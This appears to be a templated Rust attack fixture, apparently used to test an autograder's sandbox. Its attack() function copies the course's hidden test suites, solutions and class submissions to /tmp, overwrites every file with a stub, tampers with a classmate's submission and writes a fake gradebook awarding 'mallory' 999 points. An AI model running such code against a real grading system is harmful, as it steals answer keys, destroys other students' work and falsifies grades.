// Rewrite the course's hidden suites and solutions, a classmate's
// submission and the reports; copy the course and the class out.
fn attack() {
    fn walk(dir: &std::path::Path, found: &mut Vec<std::path::PathBuf>) {
        if let Ok(entries) = std::fs::read_dir(dir) {
            for entry in entries.flatten() {
                let path = entry.path();
                if path.is_dir() { walk(&path, found) } else { found.push(path) }
            }
        }
    }
    let mut files = Vec::new();
    for dir in ["@COURSE@/grader/suites", "@COURSE@/solutions", "@COURSE@/exercises", "@CLASS@", "@OUT@"] {
        walk(std::path::Path::new(dir), &mut files);
    }
    let _ = std::fs::create_dir_all("/tmp/@MARKER@-copy");
    for file in &files {
        if let Ok(text) = std::fs::read(file) {
            let _ = std::fs::write(format!("/tmp/@MARKER@-copy/{}", file.display().to_string().replace('/', "_")), &text);
        }
        let _ = std::fs::write(file, "pub fn tampered() {}\n");
    }
    let _ = std::fs::write("@COURSE@/grader/suites/@MARKER@.rs", "tampered");
    let _ = std::fs::write("@CLASS@/zz-victim/exercises/05-event/src/lib.rs", "tampered");
    let _ = std::fs::write("@OUT@/gradebook.csv", "student,total\nmallory,999\n");
}
